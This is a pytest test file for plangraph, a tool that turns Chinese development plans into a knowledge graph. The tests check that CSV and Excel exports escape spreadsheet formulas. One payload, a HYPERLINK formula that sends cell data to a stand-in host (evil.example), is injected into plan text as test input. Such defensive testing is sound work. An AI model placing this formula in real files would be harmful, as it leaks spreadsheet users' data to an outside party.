"""What a plan says is never a formula in a CSV or Excel file that plangraph writes."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import plangraph
from plangraph.build import build
from plangraph.cli import main as cli
from plangraph.harmless import cell, content, csv_text
from plangraph.knowledge import KnowledgeGraph
from plangraph.link.reviews import read_reviews, write_table
from plangraph.network import KINDS
from tests.build.plans import PLAN

RUN = re.compile("[=+\\-@\t\r\n＝＋－＠]")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?%?")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def harmless(text: str) -> bool:
    return not RUN.match(text) or bool(NUMBER.fullmatch(text))


def cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert len(rows) > 1
    return [one for row in rows for one in row]


@pytest.mark.parametrize(
    "text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "-", "-推进"]
)
def test_a_formula_is_text(text: str) -> None:
    assert cell(text) == "'" + text
    assert content(cell(text)) == text


@pytest.mark.parametrize("text", ["", "12", "-12", "+3.5", "-4%", "1e5", "'引", "就业", "a=b", "'"])
def test_other_cells_stay_as_they_are(text: str) -> None:
    assert cell(text) == text
    assert content(text) == text


@given(st.text())
def test_a_cell_is_harmless_and_gives_its_text_back(text: str) -> None:
    assert harmless(cell(text))
    assert content(cell(text)) == text


@given(
    st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2))
)
def test_csv_is_read_back_by_the_standard_reader(rows: list[list[str]]) -> None:
    back = csv.reader(io.StringIO(csv_text(rows), newline=""))
    assert [[content(one) for one in row] for row in back] == rows


def test_a_semicolon_parts_no_cell() -> None:
    assert csv_text([["就业;=1+1", "b"]]) == '"就业;=1+1",b\n'


@pytest.fixture(scope="module")
def graph(tmp_path_factory: pytest.TempPathFactory) -> Iterator[KnowledgeGraph]:
    """The graph of a plan whose headings, units, projects and values are formulas."""
    folder = tmp_path_factory.mktemp("formulas")
    text = PLAN.format(city="遵义市")
    for words in ("根治欠薪", "提升技能", "健全欠薪预警平台", "技能提升工程", "建设零工市场"):
        text = text.replace(words, FORMULA + words)
    (folder / "zunyi.txt").write_text(text.replace("专栏1 重点", "专栏1 @重点"), encoding="utf-8")
    assert build([folder], folder / "ttl", root=folder).ok
    with plangraph.open(folder / "ttl") as opened:
        yield opened


def test_the_graph_itself_keeps_what_the_plan_says(graph: KnowledgeGraph) -> None:
    assert any(label.startswith("=HYPERLINK") for label in graph.query("measures")["measure"])


@pytest.mark.parametrize("ask", ["measures", "outline", "projects", "responsible"])
def test_answers(graph: KnowledgeGraph, ask: str, capsys: pytest.CaptureFixture[str]) -> None:
    names = {"responsible": "unit-load"}
    assert (
        cli.main(["query", names.get(ask, ask), "--data", graph.store.name, "--format", "csv"]) == 0
    )
    found = cells(capsys.readouterr().out)
    assert all(map(harmless, found))
    assert ask == "responsible" or any(one.startswith("'=HYPERLINK") for one in found)


def test_own_sparql(
    graph: KnowledgeGraph, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    query = tmp_path / "a.rq"
    query.write_text(
        "SELECT ?heading ?order { ?s pg:heading ?heading ; pg:order ?order }", encoding="utf-8"
    )
    assert cli.main(["sparql", str(query), "--data", graph.store.name, "--format", "csv"]) == 0
    found = cells(capsys.readouterr().out)
    assert "'" + FORMULA + "根治欠薪" in found
    assert all(map(harmless, found))
    frame = graph.sparql(query.read_text(encoding="utf-8"))
    assert isinstance(frame, pd.DataFrame)
    assert all(map(harmless, cells(frame.to_csv())))


def test_data_frames_and_what_is_computed_from_them(graph: KnowledgeGraph) -> None:
    frame = graph.query("measures")
    for one in (frame, frame.head(9), frame[frame["measure"] != "x"], frame.set_index("measure")):
        found = cells(one.to_csv())
        assert "'" + FORMULA + "根治欠薪" in found
        assert all(map(harmless, found))
    assert FORMULA + "根治欠薪" in cells(pd.DataFrame(frame).to_csv())  # who asks gets it as it is


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_networks(graph: KnowledgeGraph, kind: str, tmp_path: Path) -> None:
    network = graph.network(kind)
    for path in network.save(tmp_path / "a.csv"):
        text = path.read_text(encoding="utf-8")
        assert all(map(harmless, next(csv.reader(io.StringIO(text)), [])))
        assert all(
            harmless(one)
            for row in csv.reader(io.StringIO(text.removeprefix("\ufeff")))
            for one in row
        )
    assert all(
        harmless(one) for row in csv.reader(io.StringIO(network.measures().to_csv())) for one in row
    )


def test_reviews_of_links_are_read_back_as_they_were(tmp_path: Path) -> None:
    row = {"plan": "a", "kind": "GoalLink", "from": FORMULA, "to": "-推进", "verdict": "rejected"}
    write_table(tmp_path / "links.csv", [row])
    assert all(map(harmless, cells((tmp_path / "links.csv").read_text(encoding="utf-8"))))
    (review,) = read_reviews(tmp_path / "links.csv").rows
    assert (review.source, review.target) == (FORMULA, "-推进")
